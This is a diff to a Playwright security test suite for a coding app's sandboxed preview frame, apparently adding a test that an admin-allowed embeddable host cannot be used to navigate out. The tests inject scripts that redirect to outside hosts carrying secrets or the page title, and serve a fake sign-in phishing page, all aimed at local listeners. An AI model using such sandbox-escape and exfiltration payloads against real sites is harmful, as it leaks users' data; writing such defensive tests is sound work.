@@ -2,9 +2,11 @@ import { createSocket, type Socket } from 'node:dgram';
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import { createServer as createSecureServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
-import { expect, type Page, test } from '@playwright/test';
+import { chromium, expect, type Page, test } from '@playwright/test';
+import { chromiumArgs, chromiumExecutable } from '../scripts/chromium.mjs';
 import { selfSignedCertificate } from '../scripts/self-signed-certificate.mjs';
-import { registerStudent, storedTokens } from './support';
+import { e2ePorts } from './ports';
+import { accessTokenOf, demo, registerStudent, storedTokens } from './support';
 
 /**
  * The preview's attack suite: student code tries to get out of the sandboxed frame in every way
@@ -28,14 +30,19 @@ const listen = async (server: Server) => {
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   return (server.address() as AddressInfo).port;
 };
+/** Pages the listeners answer with; a page with an icon of its own asks for no favicon. */
+const pages: Record<string, string> = {
+  '/phish': phishingPage,
+  '/control': '<link rel="icon" href="data:,"><p>Reached</p>',
+};
 const record = (scheme: string) => (request: IncomingMessage, response: ServerResponse) => {
   hits.push(`${scheme} ${request.method} ${request.url}`);
-  const phishing = request.url === '/phish';
+  const page = pages[request.url ?? ''];
   response.writeHead(200, {
     'access-control-allow-origin': '*',
-    'content-type': phishing ? 'text/html' : 'text/plain',
+    'content-type': page ? 'text/html' : 'text/plain',
   });
-  response.end(phishing ? phishingPage : 'leaked');
+  response.end(page ?? 'leaked');
 };
 test.beforeAll(async () => {
   hits = [];
@@ -218,12 +225,54 @@ test.describe('a preview that navigates itself', () => {
     await expectClosedAndNothingOut(page, { js: "location.href = '/tools-api/wallets?d=secret';" });
   });
 
+  test('a navigation to a site authors may embed is refused too, before any request', async () => {
+    // It starts a browser of its own, with a host name of its own.
+    test.slow();
+    // The app's pages may frame the embeddable sites, so only the preview page's own policy can
+    // stop a project from navigating there. The browser resolves the admin-allowed host to the
+    // local https listener, so a request that left would be heard.
+    const host = `embed-${Date.now()}.sparked-e2e.test`;
+    const port = new URL(secureOutside).port;
+    const admin = { authorization: `Bearer ${await accessTokenOf(demo.admin)}` };
+    const browser = await chromium.launch({
+      executablePath: chromiumExecutable,
+      args: [...chromiumArgs, `--host-resolver-rules=MAP ${host} 127.0.0.1:${port}`],
+    });
+    const context = await browser.newContext({
+      baseURL: `http://127.0.0.1:${e2ePorts.app}`,
+      ignoreHTTPSErrors: true,
+    });
+    const page = await context.newPage();
+    try {
+      const added = await page.request.post('/sparked-api/embeddable-hosts', {
+        headers: admin,
+        data: { host, note: 'The code box attack suite' },
+      });
+      expect(added.status()).toBe(201);
+      // The route works: a page of the browser reaches the listener under that name.
+      hits = [];
+      const control = await context.newPage();
+      await control.goto(`https://${host}/control`);
+      await control.close();
+      expect(hits).toEqual(['https GET /control']);
+      await expectClosedAndNothingOut(page, {
+        // Once the page has settled, so the navigation does not race the document's own loading.
+        js: `setTimeout(() => { location.href = 'https://${host}/watch?leak=' + encodeURIComponent(document.title); }, 500);`,
+      });
+    } finally {
+      await page.request.delete(`/sparked-api/embeddable-hosts/${host}`, { headers: admin });
+      await browser.close();
+    }
+  });
+
   test('a navigated page cannot keep itself open with a forged heartbeat', async ({ page }) => {
     hits = [];
     await runScript(page, `location.href = '${secureOutside}/phish';`);
     // Longer than the watchdog's limit: a page that fed it would still be showing.
     await page.waitForTimeout(5000);
-    await expect(page.frameLocator('iframe').getByText('Sign in again')).toHaveCount(0);
+    await expect(
+      page.frameLocator('iframe').frameLocator('iframe').getByText('Sign in again'),
+    ).toHaveCount(0);
     expect(hits).toEqual([]);
     await expect(page.getByText(closed)).toBeVisible();
   });
